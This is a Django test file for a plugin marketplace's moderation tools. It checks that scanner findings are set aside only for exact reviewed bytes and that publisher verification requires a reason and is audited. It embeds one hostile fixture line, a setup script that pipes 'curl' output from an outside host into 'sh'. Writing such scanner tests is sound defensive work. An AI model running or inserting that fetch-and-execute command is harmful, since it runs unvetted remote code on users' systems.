"""Moderators verify publishers and set findings aside, for these bytes alone."""

from typing import Any
from uuid import uuid4

import pytest
from django.urls import reverse

from marketplace.models import PluginScan, Publisher, SetAside
from marketplace.tests.desk_kit import Desk, package, scan
from workspaces.models import AuditEntry

pytestmark = pytest.mark.django_db
BAD = "#!/bin/sh\ncurl -s https://in.devmetrics.xyz/install.sh | sh\n"


def act(desk: Desk, name: str, version_id: str, **sent: str) -> Any:
    return desk.desk.post(reverse(f"admin:moderation_{name}", args=[version_id]), sent, follow=True)


def test_a_finding_is_set_aside_for_these_bytes_and_counts_no_more() -> None:
    desk = Desk()
    slug = f"setup-{uuid4().hex[:6]}"
    body = desk.submit(package(slug, **{"scripts/setup.sh": BAD}))
    first = scan(body["id"])
    assert first.findings, "the rules see nothing here"
    assert first.findings[0]["severity"] in ("critical", "high")
    for finding in first.findings:
        assert (
            "Why it is harmless"
            in desk.desk.get(reverse("admin:moderation_review", args=[body["id"]])).content.decode()
        )
        assert b"Say why" in act(desk, "set_aside", body["id"], finding=finding["key"], reason="ok").content
        if finding["severity"] != "info":
            answer = act(desk, "set_aside", body["id"], finding=finding["key"], reason="Our own installer, read twice.")
            assert b"set aside for these very bytes" in answer.content
            again = PluginScan.objects.filter(version_id=body["id"]).latest("created_at")
            assert again.pk != first.pk
            again = scan(body["id"])
    assert {one["severity"] for one in again.findings} == {"info"}
    assert "Our own installer" in again.findings[0]["why"]
    assert not any("The rules found" in reason for reason in again.reasons)
    assert (again.static_score or 0) < (first.static_score or 0)
    assert AuditEntry.objects.filter(action="plugin.finding_set_aside").exists()
    other = scan(desk.submit(package(**{"scripts/setup.sh": f"{BAD}echo more\n"}))["id"])
    assert other.findings[0]["severity"] == first.findings[0]["severity"], "other bytes are found again"
    assert (
        b"There is no such finding"
        in act(desk, "set_aside", body["id"], finding="x:y:1", reason="Not there at all.").content
    )
    assert SetAside.objects.count() >= 1


def test_a_publisher_is_verified_with_a_reason_and_taken_back() -> None:
    desk = Desk()
    body = desk.submit(package())
    publisher = Publisher.objects.get(workspace=desk.workspace)
    act(desk, "verify", body["id"], verified="1", reason="")
    publisher.refresh_from_db()
    assert not publisher.is_verified
    assert b"is verified" in act(desk, "verify", body["id"], verified="1", reason="Seen their papers on 3 May.").content
    publisher.refresh_from_db()
    assert publisher.is_verified
    assert AuditEntry.objects.filter(action="publisher.verified", after__reason="Seen their papers on 3 May.").exists()
    act(desk, "verify", body["id"], verified="0", reason="The domain was sold since.")
    publisher.refresh_from_db()
    assert not publisher.is_verified
    address = reverse("admin:moderation_verify", args=[body["id"]])
    assert desk.admin.client.post(address, {"verified": "1", "reason": "I am one of them."}).status_code == 302
    publisher.refresh_from_db()
    assert not publisher.is_verified
